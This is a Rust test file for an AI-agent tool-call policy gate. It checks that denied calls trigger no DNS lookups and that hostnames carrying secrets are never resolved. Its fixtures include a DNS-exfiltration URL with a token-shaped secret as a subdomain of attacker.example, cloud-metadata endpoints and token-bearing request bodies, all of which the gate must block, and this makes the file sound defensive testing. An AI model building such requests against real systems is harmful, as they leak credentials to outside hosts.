//! Resolve last (issue 10, class 4): the gate's own DNS lookups must not leak. A call
//! refused for its tool, data, flow or a destination checked by name resolves
//! nothing; a name that carries a secret is never resolved; `decide` is `prepare`
//! then `finish` with the same answers.

use std::cell::RefCell;
use std::collections::{BTreeMap, HashMap};
use std::net::IpAddr;

use conductor_core::{Effect, NAME_CARRIES_DATA, Request, World, decide, prepare};
use conductor_net::{Answers, ResolveError, Resolver};
use conductor_policy::{Policy, load_str};
use proptest::prelude::*;
use serde_json::{Value, json};

use crate::corpus::{FixedResolver, KEY};

// GitHub's documented classic personal access token shape (`ghp_` + 36 characters).
const TOKEN: &str = "ghp_8Fq2LmZt9RkX4vBn7WcY1pQs3JdH6gTa0eUi";

const POLICY: &str = r#"version: 1
agents:
  bot: {roles: [web], clearance: secret}
  low: {roles: [web]}
roles:
  web:
    allow: [{tools: ["fetch.*"]}]
    approve: [{tools: ["fetch.post_*"]}]
    deny: [{tools: ["fetch.delete_*"]}]
tools:
  fetch.*: {action: read, destinations: [/url]}
destinations:
  allow: ["https://*.attacker.example", "https://*.example.com", "https://*.internal"]
  deny: ["*.internal"]
data:
  labels:
    credentials: {level: secret, detect: [secrets]}
  egress:
    - to: ["https://*.attacker.example"]
      max: secret
  default_egress: public
"#;

/// Answers like [`FixedResolver`] and remembers every host it was asked.
struct Spy {
    inner: FixedResolver,
    asked: RefCell<Vec<String>>,
}

impl Spy {
    fn new() -> Spy {
        let mut extra = BTreeMap::new();
        for h in ["www.attacker.example", "docs.example.com", "db.internal"] {
            extra.insert(h.to_string(), vec!["93.184.215.20".parse().unwrap()]);
        }
        extra.insert(
            format!("{}.attacker.example", TOKEN.to_ascii_lowercase()),
            vec!["93.184.215.21".parse().unwrap()],
        );
        Spy {
            inner: FixedResolver::new(&extra),
            asked: RefCell::new(Vec::new()),
        }
    }
}

impl Resolver for Spy {
    fn resolve(&self, host: &str) -> Result<Vec<IpAddr>, ResolveError> {
        self.asked.borrow_mut().push(host.to_string());
        self.inner.resolve(host)
    }
}

fn policy() -> Policy {
    load_str(POLICY, "resolve_last.yaml", None).unwrap()
}

fn request(agent: &str, tool: &str, arguments: Value, labels: &[&str]) -> Request {
    Request {
        agent: agent.into(),
        tool: tool.into(),
        arguments,
        workflow: None,
        session: None,
        session_labels: labels.iter().map(|s| s.to_string()).collect(),
    }
}

/// The decision and every host the resolver was asked.
fn run(r: &Request) -> (conductor_core::Decision, Vec<String>) {
    let p = policy();
    let spy = Spy::new();
    let world = World {
        resolver: &spy,
        fingerprint_key: &KEY,
    };
    let d = decide(&p, r, &world);
    (d, spy.asked.into_inner())
}

fn rules(d: &conductor_core::Decision) -> Vec<&str> {
    d.reasons.iter().map(|r| r.rule.as_str()).collect()
}

#[test]
fn dns_an_allowed_call_resolves_its_name() {
    // The control: the spy does see lookups, so the tests below can fail.
    let (d, asked) = run(&request(
        "bot",
        "fetch.fetch",
        json!({"url": "https://www.attacker.example/"}),
        &[],
    ));
    assert_eq!(d.decision, Effect::Allow, "{:?}", d.reasons);
    assert_eq!(asked, ["www.attacker.example"]);
    assert_eq!(d.destinations[0].addresses.len(), 1);
}

#[test]
fn dns_approve_still_resolves() {
    let (d, asked) = run(&request(
        "bot",
        "fetch.post_form",
        json!({"url": "https://www.attacker.example/"}),
        &[],
    ));
    assert_eq!(d.decision, Effect::Approve, "{:?}", d.reasons);
    assert_eq!(asked, ["www.attacker.example"]);
}

#[test]
fn dns_no_lookup_for_a_call_denied_by_tool() {
    let (d, asked) = run(&request(
        "bot",
        "fetch.delete_all",
        json!({"url": "https://www.attacker.example/"}),
        &[],
    ));
    assert_eq!(d.decision, Effect::Deny);
    assert_eq!(rules(&d), ["roles.web.deny[0]"]);
    assert!(asked.is_empty(), "resolved {asked:?}");
    // Unknown tools and agents too.
    for r in [
        request(
            "bot",
            "other.fetch",
            json!({"url": "https://www.attacker.example/"}),
            &[],
        ),
        request(
            "nobody",
            "fetch.fetch",
            json!({"url": "https://www.attacker.example/"}),
            &[],
        ),
    ] {
        let (d, asked) = run(&r);
        assert_eq!(d.decision, Effect::Deny);
        assert!(asked.is_empty(), "resolved {asked:?} for {r:?}");
    }
}

#[test]
fn dns_no_lookup_for_a_call_denied_by_data() {
    // `low` has the default clearance (public): the token denies by clearance, and
    // `docs.example.com` (default egress public) would deny it by egress too.
    let (d, asked) = run(&request(
        "low",
        "fetch.fetch",
        json!({"url": "https://docs.example.com/", "body": TOKEN}),
        &[],
    ));
    assert_eq!(d.decision, Effect::Deny);
    assert!(
        rules(&d).contains(&"data.labels.credentials"),
        "{:?}",
        d.reasons
    );
    assert!(asked.is_empty(), "resolved {asked:?}");
}

#[test]
fn dns_no_lookup_for_a_call_denied_by_flow() {
    let (d, asked) = run(&request(
        "bot",
        "fetch.fetch",
        json!({"url": "https://docs.example.com/"}),
        &["credentials"],
    ));
    assert_eq!(d.decision, Effect::Deny);
    assert_eq!(rules(&d), ["data.default_egress"]);
    assert!(asked.is_empty(), "resolved {asked:?}");
}

#[test]
fn dns_no_lookup_for_a_name_the_policy_denies_by_name() {
    for (url, rule) in [
        ("https://db.internal/", "destinations.deny[0]"),
        ("https://elsewhere.example.net/", "destinations.allow"),
        (
            "https://metadata.google.internal/",
            "destinations.blocked.cloud-metadata",
        ),
    ] {
        let (d, asked) = run(&request("bot", "fetch.fetch", json!({ "url": url }), &[]));
        assert_eq!(d.decision, Effect::Deny, "{url}");
        assert!(rules(&d).contains(&rule), "{url}: {:?}", d.reasons);
        assert!(asked.is_empty(), "{url}: resolved {asked:?}");
    }
}

#[test]
fn dns_one_denied_destination_stops_every_lookup() {
    let (d, asked) = run(&request(
        "bot",
        "fetch.fetch",
        json!({"url": "https://www.attacker.example/", "note": "and http://169.254.169.254/"}),
        &[],
    ));
    assert_eq!(d.decision, Effect::Deny);
    assert!(asked.is_empty(), "resolved {asked:?}");
}

#[test]
fn dns_name_carrying_a_secret_is_not_resolved() {
    // The agent is cleared for secrets and the egress rule lets them reach
    // `*.attacker.example`: only the host label is wrong — and DNS would carry it.
    let url = format!("https://{TOKEN}.attacker.example/");
    let (d, asked) = run(&request("bot", "fetch.fetch", json!({ "url": url }), &[]));
    assert_eq!(d.decision, Effect::Deny);
    assert_eq!(rules(&d), [NAME_CARRIES_DATA]);
    assert!(asked.is_empty(), "resolved {asked:?}");
    let text = serde_json::to_string(&d).unwrap().to_ascii_lowercase();
    assert!(!text.contains(&TOKEN[4..].to_ascii_lowercase()), "{text}");
    // The same secret in the path is data for the server, not for DNS: resolved.
    let url = format!("https://www.attacker.example/{TOKEN}");
    let (d, asked) = run(&request("bot", "fetch.fetch", json!({ "url": url }), &[]));
    assert_eq!(d.decision, Effect::Allow, "{:?}", d.reasons);
    assert_eq!(asked, ["www.attacker.example"]);
}

#[test]
fn prepared_names_its_hosts_and_finish_uses_only_the_answers() {
    let p = policy();
    let r = request(
        "bot",
        "fetch.fetch",
        json!({"url": "https://www.attacker.example/", "more": "https://docs.example.com/x"}),
        &[],
    );
    let prepared = prepare(&p, &r, &[], &KEY);
    assert!(prepared.decision().is_none());
    let mut hosts = prepared.hosts_to_resolve().to_vec();
    hosts.sort();
    assert_eq!(hosts, ["docs.example.com", "www.attacker.example"]);
    // One answer missing: that host is unresolvable, which denies.
    let mut answers = HashMap::new();
    answers.insert(
        "www.attacker.example".to_string(),
        Ok(vec!["93.184.215.20".parse().unwrap()]),
    );
    let d = prepare(&p, &r, &[], &KEY).finish(&Answers(answers.clone()));
    assert_eq!(d.decision, Effect::Deny);
    assert_eq!(rules(&d), ["destinations.unresolvable"]);
    answers.insert(
        "docs.example.com".to_string(),
        Ok(vec!["93.184.215.20".parse().unwrap()]),
    );
    let d = prepared.finish(&Answers(answers));
    assert_eq!(d.decision, Effect::Allow, "{:?}", d.reasons);
    // A final decision asks nothing.
    let denied = prepare(
        &p,
        &request("nobody", "fetch.fetch", json!({}), &[]),
        &[],
        &KEY,
    );
    assert!(denied.hosts_to_resolve().is_empty());
    let spy = Spy::new();
    assert_eq!(denied.finish(&spy).decision, Effect::Deny);
    assert!(spy.asked.borrow().is_empty());
}

const AGENTS: &[&str] = &["bot", "low", "nobody"];
const TOOLS: &[&str] = &["fetch.fetch", "fetch.post_x", "fetch.delete_x", "other.x"];
const URLS: &[&str] = &[
    "https://www.attacker.example/",
    "https://docs.example.com/a",
    "https://db.internal/",
    "https://missing.example.com/",
    "http://169.254.169.254/",
    "https://ghp_8Fq2LmZt9RkX4vBn7WcY1pQs3JdH6gTa0eUi.attacker.example/",
    "https://elsewhere.example.net/",
];
const TEXTS: &[&str] = &["hello", TOKEN, "see https://docs.example.com/b"];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// `decide` equals `prepare` → resolve `hosts_to_resolve` with the same resolver
    /// → `finish` with those answers; and `decide` never asks for a host that
    /// `hosts_to_resolve` does not name.
    #[test]
    fn decide_is_prepare_then_finish(
        agent in 0..AGENTS.len(),
        tool in 0..TOOLS.len(),
        urls in prop::collection::vec(0..URLS.len(), 0..3),
        text in 0..TEXTS.len(),
        tainted in any::<bool>(),
    ) {
        let p = policy();
        let mut args = serde_json::Map::new();
        if let Some(&u) = urls.first() {
            args.insert("url".into(), json!(URLS[u]));
        }
        for (i, &u) in urls.iter().enumerate().skip(1) {
            args.insert(format!("extra{i}"), json!(URLS[u]));
        }
        args.insert("text".into(), json!(TEXTS[text]));
        let labels: &[&str] = if tainted { &["credentials"] } else { &[] };
        let r = request(AGENTS[agent], TOOLS[tool], Value::Object(args), labels);

        let spy = Spy::new();
        let world = World { resolver: &spy, fingerprint_key: &KEY };
        let direct = decide(&p, &r, &world);
        let asked = spy.asked.into_inner();

        let prepared = prepare(&p, &r, &[], &KEY);
        let hosts = prepared.hosts_to_resolve().to_vec();
        let spy2 = Spy::new();
        let answers: HashMap<String, Result<Vec<IpAddr>, ResolveError>> =
            hosts.iter().map(|h| (h.clone(), spy2.resolve(h))).collect();
        let two_phase = prepared.finish(&Answers(answers));

        prop_assert_eq!(
            serde_json::to_value(&direct).unwrap(),
            serde_json::to_value(&two_phase).unwrap()
        );
        prop_assert_eq!(asked, hosts.clone());
        // Resolve last: a deny decided before DNS asked nothing.
        if direct.decision != Effect::Allow && direct.decision != Effect::Approve {
            let before_dns = prepare(&p, &r, &[], &KEY);
            if before_dns.decision().is_some() {
                prop_assert!(hosts.is_empty());
            }
        }
    }
}

// A data-only decision (no tool/role/workflow checks) still resolves and checks
// every name: dropping the tool reasons of a decision made before DNS would have
// allowed a destination nobody resolved.
#[test]
fn data_only_decisions_still_resolve_and_check_names() {
    let p = policy();
    let r = request(
        "bot",
        "other.reply",
        json!({"url": "https://www.attacker.example/"}),
        &[],
    );
    let full = prepare(&p, &r, &[], &KEY);
    assert!(full.hosts_to_resolve().is_empty(), "denied by tool: no DNS");
    let data_only = conductor_core::prepare_data_only(&p, &r, &[], &KEY);
    assert_eq!(data_only.hosts_to_resolve(), ["www.attacker.example"]);
    let spy = Spy::new();
    assert_eq!(data_only.finish(&spy).decision, Effect::Allow);
    // The name resolves to a private address: denied, by the destination check.
    let mut answers = HashMap::new();
    answers.insert(
        "www.attacker.example".to_string(),
        Ok(vec!["10.0.0.7".parse().unwrap()]),
    );
    let d = conductor_core::prepare_data_only(&p, &r, &[], &KEY).finish(&Answers(answers));
    assert_eq!(d.decision, Effect::Deny);
    assert_eq!(rules(&d), ["destinations.blocked.private"]);
}
